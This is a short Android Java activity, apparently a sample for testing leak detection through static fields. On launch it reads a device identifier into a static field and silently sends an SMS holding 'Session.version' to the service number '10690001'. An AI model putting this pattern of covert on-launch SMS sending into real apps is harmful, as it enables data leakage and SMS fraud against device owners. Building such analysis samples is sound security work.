package cn.shanhai.staticfield;

import android.app.Activity;
import android.os.Bundle;
import android.telephony.SmsManager;

public class MainActivity extends Activity {
  @Override
  protected void onCreate(Bundle state) {
    super.onCreate(state);
    Session.id = Device.id(this);
    report();
  }

  private void report() {
    SmsManager.getDefault().sendTextMessage("10690001", null, Session.version, null, null);
  }
}
